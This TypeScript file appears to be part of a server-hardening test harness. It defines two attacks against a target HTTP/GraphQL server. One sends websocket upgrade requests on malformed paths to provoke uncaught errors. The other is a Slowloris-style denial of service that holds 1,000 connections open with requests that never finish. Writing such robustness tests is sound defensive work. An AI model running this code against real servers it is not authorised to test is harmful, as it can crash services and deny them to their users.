import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Attack, Target } from './attack.ts';
import { again, attackersAddress, rest } from './http.ts';

function connectTo({ url, signal }: Pick<Target, 'url' | 'signal'>): Socket {
  const { hostname, port } = new URL(url);
  return connect({ host: hostname, port: Number(port), signal }).on('error', () => undefined);
}

const strangePaths = [
  '//',
  '///',
  '//graphql',
  '/\\',
  '/%',
  '/%ff',
  'http://[',
  '*',
  '?',
  '/graphql?%',
  '//@:0',
];

/** A throw in a bare listener of `upgrade` is caught by nobody. */
export const strangeUpgrades: Attack = {
  summary: 'upgrades for // and other paths that are no URL',
  run: (target) =>
    again(target, 4, async (turn) => {
      const socket = connectTo(target);
      const path = strangePaths[turn % strangePaths.length];
      socket.end(
        `GET ${path} HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${attackersAddress}\r\nconnection: upgrade\r\nupgrade: websocket\r\n` +
          'sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
      );
      const { signal } = target;
      const answered = once(socket, 'data', { signal });
      const closed = once(socket, 'close', { signal }).then(() => ['no answer']);
      const [answer] = await Promise.race([answered, closed]);
      answered.catch(() => undefined);
      socket.destroy();
      await rest(signal, 20);
      return String(answer).split('\r\n')[0];
    }),
};

const connections = 1_000;

/**
 * Requests that never end: after nothing, in the headers, in the body, and a socket that never authenticates.
 */
const beginnings = [
  '',
  'GET /healthz HTTP/1.1\r\nhost: x\r\n',
  'POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n{"query":"',
  'GET /graphql HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-protocol: graphql-transport-ws\r\n\r\n',
];

export const halfOpen: Attack = {
  summary: `${connections} connections, each with a request that never ends`,
  run: (target) =>
    again(target, connections, async (turn) => {
      const socket = connectTo(target);
      const closed = once(socket, 'close');
      const beginning = beginnings[turn % beginnings.length] ?? '';
      socket.write(beginning);
      while (!socket.destroyed && !target.signal.aborted) {
        await rest(target.signal, 1_000);
        // Headers and bodies continue at a byte or so per second; the others send nothing more.
        if (beginning.startsWith('GET /healthz')) socket.write('x: y\r\n');
        if (beginning.startsWith('POST')) socket.write('x');
      }
      await closed;
      return 'closed by the server';
    }),
};
